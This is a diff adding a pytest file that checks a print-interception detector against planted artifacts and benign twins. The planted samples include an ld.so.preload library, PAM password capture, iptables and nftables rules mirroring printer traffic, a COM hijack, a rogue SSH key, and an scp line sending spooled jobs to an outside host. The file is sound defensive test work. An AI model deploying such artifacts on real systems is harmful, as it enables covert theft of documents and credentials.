@@ -1,0 +1,112 @@
+"""Kinds of evidence that say where orders and labels go: each planted thing is named, its innocent twin is not.
+
+The files are written for this test; the frozen PCs judge the method as a whole.
+"""
+
+import pytest
+
+from waybillguard.sensor import examine
+
+ID = "abcdefghijklmnopabcdefghijklmnop"
+REG = "Windows Registry Editor Version 5.00\r\n\r\n"
+PLANTED = {
+    "a backend of CUPS that no package brings": {
+        "etc/cups/printers.conf": "<Printer label>\nDeviceURI dup:/dev/usb/lp0\n</Printer>\n",
+    },
+    "a filter that hands jobs on": {"usr/lib/cups/filter/rastertolabel": '#!/bin/sh\ntee /var/x | cat "$6"\n'},
+    "a PPD with a filter from elsewhere": {
+        "etc/cups/ppd/label.ppd": '*PPD-Adobe: "4.3"\n*cupsFilter: "application/vnd.cups-raster 0 /opt/x/lbl"\n'
+    },
+    "jobs that CUPS keeps": {"etc/cups/cupsd.conf": "PreserveJobFiles 3600\n"},
+    "a library in every program": {"etc/ld.so.preload": "/usr/local/lib/libq.so\n"},
+    "a packet rule that doubles jobs": {
+        "etc/iptables/rules.v4": "*mangle\n-A OUTPUT -p tcp --dport 9100 -j TEE --gateway 192.168.1.9\nCOMMIT\n"
+    },
+    "a packet rule of nftables": {
+        "etc/nftables.conf": "table ip nat {\n tcp dport 9100 dnat to 192.168.1.9:9100\n}\n"
+    },
+    "a program at each device": {
+        "etc/udev/rules.d/90-x.rules": 'SUBSYSTEM=="usbmisc", RUN+="/usr/local/sbin/cap.sh"\n'
+    },
+    "a program at each sign-in": {"etc/pam.d/gdm-password": "auth optional pam_exec.so expose_authtok /usr/local/bin/q\n"},
+    "a share of the spool": {"etc/samba/smb.conf": "[x]\n path = /var/spool/cups\n"},
+    "an extension from a folder": {
+        f"C/Users/a/AppData/Local/Google/Chrome/User Data/Default/Extensions/{ID}/1/manifest.json": (
+            '{"manifest_version": 3, "name": "x", "host_permissions": ["*://*.cainiao.com/*"]}'
+        )
+    },
+    "a port into a file": {"p.json": '[{"Name": "C:\\\\x\\\\q.prn", "PortMonitor": "Local Port"}]'},
+    "a printer's name led outside": {
+        "hosts": "127.0.0.1 localhost\n192.0.2.9 zd421.lan\n",
+        "p.json": '[{"Name": "a", "PortMonitor": "TCPMON.DLL", "PrinterHostAddress": "zd421.lan"}]',
+    },
+    "a consumer of WMI": {"wmi.txt": "Name : PrnHelp\nCommandLineTemplate : C:\\x\\y.exe\n"},
+    "a start value": {
+        "a.reg": REG + '[HKEY_CURRENT_USER\\Environment]\r\n"UserInitMprLogonScript"="C:\\\\ProgramData\\\\q\\\\q.exe"\r\n'
+    },
+    "a class taken over": {
+        "a.reg": REG
+        + "[HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}\\InprocServer32]\r\n"
+        + '@="C:\\\\Users\\\\Public\\\\q.dll"\r\n'
+    },
+    "a script that sends jobs out": {"C/x/q.sh": "#!/bin/sh\nscp /var/spool/cups/d* u@192.0.2.8:/in/\n"},
+    "a NetSupport client by its settings": {"C/ProgramData/q/client32.ini": "[HTTP]\nGatewayAddress=192.0.2.7:443\n"},
+    "an administrator's key": {
+        "C/ProgramData/ssh/administrators_authorized_keys": f"ssh-ed25519 {'A' * 60} night\n"
+    },
+}  # fmt: skip
+ORDINARY = {
+    "CUPS as it comes": {
+        "etc/cups/printers.conf": "<Printer label>\nDeviceURI usb://Zebra/ZD421\n</Printer>\n",
+        "etc/cups/ppd/label.ppd": '*PPD-Adobe: "4.3"\n*cupsFilter: "application/vnd.cups-raster 0 rastertolabel"\n',
+        "etc/cups/cupsd.conf": "PreserveJobFiles No\nListen localhost:631\n",
+        "usr/lib/cups/backend/usb": "\x7fELF",
+    },
+    "what containers write": {
+        "etc/iptables/rules.v4": "*nat\n-A DOCKER -p tcp --dport 8080 -j DNAT --to-destination 172.17.0.2:80\nCOMMIT\n"
+    },
+    "a rule for a scale": {"etc/udev/rules.d/60-s.rules": 'SUBSYSTEM=="tty", SYMLINK+="scale", RUN+="/usr/bin/true"\n'},
+    "an extension of the store": {
+        f"C/Users/a/AppData/Local/Google/Chrome/User Data/Default/Extensions/{ID[::-1]}/1/manifest.json": (
+            '{"manifest_version": 3, "name": "x", "host_permissions": ["<all_urls>"],'
+            ' "update_url": "https://clients2.google.com/service/update2/crx"}'
+        )
+    },
+    "a PDF printer": {"p.json": '[{"Name": "PORTPROMPT:", "PortMonitor": "Local Monitor"}]'},
+    "a class of a cloud drive": {
+        "a.reg": REG
+        + "[HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}\\InprocServer32]\r\n"
+        + '@="C:\\\\Users\\\\a\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\q.dll"\r\n'
+    },
+    "a backup to the store": {"C/x/b.bat": "robocopy D:\\ERP \\\\192.168.1.9\\backup /MIR\r\n"},
+}  # fmt: skip
+
+
+Told = dict[str, list[str]]
+
+
+@pytest.fixture(scope="module")
+def told(tmp_path_factory: pytest.TempPathFactory) -> Told:
+    """What is said of each case; all lie in one collection, each in a folder of its own."""
+    place = tmp_path_factory.mktemp("ways")
+    names = [*PLANTED, *ORDINARY]
+    for number, what in enumerate(names):
+        for name, text in (PLANTED | ORDINARY)[what].items():
+            path = place / f"{number:02}" / name
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text, "utf-8", newline="")
+    said: Told = {what: [] for what in names}
+    for finding in examine([str(place)])[0].findings:
+        for number in {each.file[:2] for each in finding.facts}:
+            said[names[int(number)]].append(f"{finding.severity} {finding.kind} {finding.detail_zh}")
+    return said
+
+
+@pytest.mark.parametrize("what", PLANTED)
+def test_a_way_out_is_found(what: str, told: Told) -> None:
+    assert told[what]
+
+
+@pytest.mark.parametrize("what", ORDINARY)
+def test_its_innocent_twin_is_not_accused(what: str, told: Told) -> None:
+    assert told[what] == []
